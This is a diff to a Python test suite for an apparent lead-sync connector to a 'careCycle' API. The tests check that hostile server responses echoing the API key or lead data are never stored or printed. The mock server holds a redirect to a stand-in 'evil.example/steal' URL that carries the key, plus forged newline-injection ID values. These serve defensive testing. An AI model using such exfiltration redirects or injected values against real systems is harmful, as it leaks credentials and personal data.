@@ -12,6 +12,7 @@ import json
 import os
 import shutil
 import socket
+import sqlite3
 import ssl
 import stat
 import subprocess
@@ -152,12 +153,39 @@ def echo_answer(
                 ],
             },
         )
+    if mode == "ids":  # careCycle's ids: some identifiers, some echoing the lead or the key
+        ids = hostile_ids(key, leads)
+        results = [{"externalId": lead["externalId"], "id": ids[n]} for n, lead in enumerate(leads)]
+        return 200, {}, {"succeeded": len(leads), "failed": 0, "results": results, "errors": []}
     if mode == "redirect":
         where = f"https://evil.example/steal?k={quote(key, safe='')}&p={quote(text, safe='')}"
         return 307, {"Location": where}, {}
     if mode == "503":
         return 503, {}, {"code": text, "message": text}
     raise ValueError(mode)
+
+
+def hostile_ids(key: str, leads: list[dict[str, Any]]) -> list[Any]:
+    """One careCycle `id` per lead: the first two are identifiers, the others are not (or
+    echo that lead's own data)."""
+
+    def candidate(n: int, lead: dict[str, Any]) -> Any:
+        national = str(lead["phoneNumber"])[2:]
+        return [
+            "cus_0001",
+            "3f2b8c1e-9a4d-4e7f-8b21-0c9d6e5f4a3b",
+            national,  # the phone, as digits (shaped like an identifier)
+            f"{national[:3]}-{national[3:6]}-{national[6:]}",
+            f"lead-{lead['firstName']}",
+            "1" * 65,
+            "id with spaces",
+            "id\nFORGED",
+            key,
+            {"nested": "object"},
+            "Zeb\u00e9diah",
+        ][n % 11]
+
+    return [candidate(n, lead) for n, lead in enumerate(leads)]
 
 
 @contextmanager
@@ -252,8 +280,8 @@ def test_an_echoed_key_or_lead_is_never_printed_or_stored(tmp_path, mode, exit_c
             assert value not in reasons + results, (mode, "personal value stored")
     if mode in ("200", "422"):
         assert rejects and all(line["status"] == "failed" for line in rejects)
-    if mode == "200":
-        assert read_jsonl(results_file)[0]["id"] == "id-<api key>"
+    if mode == "200":  # careCycle's id echoed the key: not an identifier, written as null
+        assert read_jsonl(results_file)[0]["id"] is None
 
 
 def test_scrubbed_echo_errors_reach_the_batch_result_without_the_key():
@@ -626,3 +654,33 @@ def test_the_key_leak_guard_fails_tests_that_print_a_watched_key(tmp_path):
         "test_clean": "PASSED",
     }, done.stdout
     assert "a test API key appeared in captured output" in done.stdout
+
+
+def test_a_carecycle_id_that_is_not_an_identifier_is_neither_written_nor_stored(tmp_path):
+    """careCycle's `id` echoing lead data landed in the results file and the sync store."""
+    leads = distinctive_leads(11)
+    results_file, store = tmp_path / "results.jsonl", tmp_path / "store.sqlite"
+    with echo_server("ids") as server:
+        config = {
+            "api_url": server.url,
+            "api_key": ECHO_KEY,
+            "max_requests_per_minute": 6000,
+            "results_file": str(results_file),
+            "sync_store": str(store),
+        }
+        run = run_target(tmp_path, config, singer_lines("echo", leads))
+    assert run.returncode == 0, run.stderr
+    written = [line["id"] for line in read_jsonl(results_file)]
+    assert written == ["cus_0001", "3f2b8c1e-9a4d-4e7f-8b21-0c9d6e5f4a3b"] + [None] * 9
+    with sqlite3.connect(store) as conn:
+        stored = sorted(
+            str(row[0]) for row in conn.execute("SELECT carecycle_id FROM carecycle_sync_leads")
+        )
+    conn.close()
+    assert stored == sorted(["cus_0001", "3f2b8c1e-9a4d-4e7f-8b21-0c9d6e5f4a3b"] + ["None"] * 9)
+    warnings = [line for line in run.stderr.splitlines() if "not an identifier" in line]
+    assert len(warnings) == 1
+    results = results_file.read_text()
+    for lead in leads:
+        for value in personal_spellings(lead):
+            assert value not in results
